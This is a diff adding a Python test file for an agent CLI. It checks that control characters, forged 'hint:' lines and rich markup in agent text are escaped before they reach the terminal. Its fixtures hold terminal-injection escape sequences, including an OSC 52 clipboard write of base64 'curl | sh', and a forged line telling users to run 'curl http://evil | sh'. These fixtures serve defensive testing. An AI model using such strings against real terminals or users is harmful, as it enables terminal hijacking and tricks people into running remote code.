@@ -1,0 +1,83 @@
+"""Issue 14, section 2: agent text cannot take over the terminal. Control characters from the
+agent are shown escaped (`\\x1b`), one-line messages get their newlines escaped too (no forged
+`hint:` line), rich markup in agent text is not read; -o json and -o raw keep the bytes."""
+
+from __future__ import annotations
+
+import io
+import json
+
+from a2a_testkit import AGENT, RPC, rpc_result, v1_card
+
+from a2acli.render.output import Output
+from a2acli.render.safe import visible
+from a2acli.render.stream import LiveState, render_live
+
+CARD_URL = f"{AGENT}/.well-known/agent-card.json"
+EVIL = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCB8IHNo\x07\x9b31m\u202e"
+
+
+def test_visible_escapes_controls_and_keeps_text():
+    assert visible("héllo\tworld\n") == "héllo\tworld\n"
+    assert visible(EVIL) == "\\x1b[2J\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCB8IHNo\\x07\\x9b31m\\u202e"
+    assert visible("a\nhint: run curl | sh", one_line=True) == "a\\nhint: run curl | sh"
+    assert visible(visible(EVIL)) == visible(EVIL)  # escaping twice changes nothing
+
+
+def test_card_fields_are_shown_escaped(cli, respx_mock):
+    respx_mock.get(CARD_URL).respond(json=v1_card(name="Evil" + EVIL, description="line\x1b[31m"))
+    result = cli("card", "fetch", "-u", AGENT)
+    assert result.exit_code == 0, result.stderr
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\x9b" not in result.stdout
+    assert "Evil\\x1b[2J\\x1b]0;pwned\\x07" in result.stdout
+
+
+def test_raw_and_json_keep_the_bytes(cli, respx_mock):
+    respx_mock.get(CARD_URL).respond(json=v1_card(name="Evil" + EVIL))
+    result = cli("card", "fetch", "-u", AGENT, "-o", "json")
+    assert json.loads(result.stdout)["name"] == "Evil" + EVIL
+
+
+def test_an_error_message_cannot_forge_a_hint_line(cli, respx_mock):
+    respx_mock.get(CARD_URL).respond(json=v1_card())
+    error = {"code": -32603, "message": "boom\nhint: run curl http://evil | sh\x1b[2J"}
+    respx_mock.post(RPC).respond(json={"jsonrpc": "2.0", "id": 1, "error": error})
+    result = cli("tasks", "get", "t-1", "-u", AGENT)
+    assert result.exit_code == 1
+    assert not any(line.startswith("hint: run curl") for line in result.stderr.splitlines())
+    assert "boom\\nhint: run curl http://evil | sh\\x1b[2J" in result.stderr
+    assert "\x1b" not in result.stderr
+
+
+def test_task_text_is_escaped(cli, respx_mock):
+    respx_mock.get(CARD_URL).respond(json=v1_card())
+    task = {"id": "t-1\x1b[2J", "contextId": "c", "status": {"state": "TASK_STATE_COMPLETED", "message": {"role": "ROLE_AGENT", "messageId": "m", "parts": [{"text": "hi\x1b]52;c;eA==\x07"}]}}}
+    respx_mock.post(RPC).respond(json=rpc_result(task))
+    result = cli("tasks", "get", "t-1", "-u", AGENT)
+    assert result.exit_code == 0, result.stderr
+    assert "\x1b" not in result.stdout + result.stderr
+    assert "t-1\\x1b[2J" in result.stdout
+
+
+def test_rich_output_reads_no_markup_and_runs_no_controls():
+    buf = io.StringIO()
+    out = Output("text", stdout=buf)
+    out.rich = True
+    out.rows([("Name", "[bold red]not bold[/bold red]"), ("Evil", EVIL), ("[link=x]Label", "v")], title="[blink]T" + EVIL)
+    out.table(["Id"], [["[red]x" + EVIL]], title="[red]tasks")
+    text = buf.getvalue()
+    assert "[bold red]not bold[/bold red]" in text and "[link=x]Label" in text and "[red]x" in text and "[red]tasks" in text
+    assert "\x07" not in text and "\x1b]" not in text and "\x1b[2J" not in text
+
+
+def test_the_live_view_escapes_agent_text():
+    from rich.console import Console
+
+    s = LiveState()
+    s.feed({"task": {"id": "[red]t" + EVIL, "contextId": "c", "status": {"state": "TASK_STATE_WORKING"}, "artifacts": [{"artifactId": "a" + EVIL, "name": "n" + EVIL, "description": EVIL, "parts": [{"text": "x" + EVIL}, {"data": {"k": "\x9b2J"}}, {"raw": "", "filename": EVIL}]}]}})
+    s.done = True
+    buf = io.StringIO()
+    Console(file=buf, force_terminal=True, width=200).print(render_live(s))
+    text = buf.getvalue()
+    assert "\x07" not in text and "\x1b]" not in text and "\x1b[2J" not in text and "\x9b" not in text
+    assert "[red]t" in text
